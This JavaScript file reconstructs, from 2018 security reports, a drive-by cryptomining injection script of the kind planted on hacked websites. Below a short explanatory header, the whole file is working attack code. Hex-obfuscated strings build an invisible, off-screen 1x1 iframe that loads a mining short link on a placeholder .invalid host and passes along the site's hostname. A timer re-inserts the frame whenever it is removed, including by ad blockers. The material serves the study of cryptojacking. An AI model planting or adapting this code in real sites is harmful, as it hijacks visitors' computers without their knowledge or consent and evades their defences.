// cnhv-shortlink, written from Malwarebytes Labs' report on Coinhive's link shortener abused
// for drive-by mining (Jérôme Segura, May 2018) and Sucuri's "Cryptomining Through Disguised
// URL Shorteners" (2018): obfuscated code added to hacked sites injects an invisible 1x1
// iframe whose address is a Coinhive short link. The short link page mines in the visitor's
// browser until the (very high) number of hashes its creator set is reached, then forwards
// to its target, which the attackers set to the hacked site itself, so mining starts over.
// The short-link host and link IDs are made up (.invalid).
var _0xa1 = ["\x63\x72\x65\x61\x74\x65\x45\x6c\x65\x6d\x65\x6e\x74", "\x69\x66\x72\x61\x6d\x65",
  "\x61\x70\x70\x65\x6e\x64\x43\x68\x69\x6c\x64", "\x62\x6f\x64\x79", "\x73\x72\x63",
  "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x6e\x68\x76\x2d\x73\x68\x6f\x72\x74\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f"];
(function (t) {
  var ids = ["vtpe3k", "q8xrm1", "h2lwa9"];
  var id = ids[Math.floor(Math.random() * ids.length)];
  function inject() {
    if (document.getElementById("cfx" + id)) return;
    var f = document[t[0]](t[1]);
    f.id = "cfx" + id;
    f.width = 1; f.height = 1;
    f.frameBorder = 0; f.scrolling = "no";
    f.style.cssText = "position:absolute;left:-9999px;top:-9999px;width:1px;height:1px;border:0;opacity:0";
    f[t[4]] = t[5] + id + "?ref=" + encodeURIComponent(location.hostname);
    document[t[3]][t[2]](f);
  }
  if (document[t[3]]) inject(); else window.addEventListener("load", inject);
  // put the frame back if the page (or an ad blocker) removes it
  setInterval(function () { if (!document.getElementById("cfx" + id)) inject(); }, 20000);
})(_0xa1);
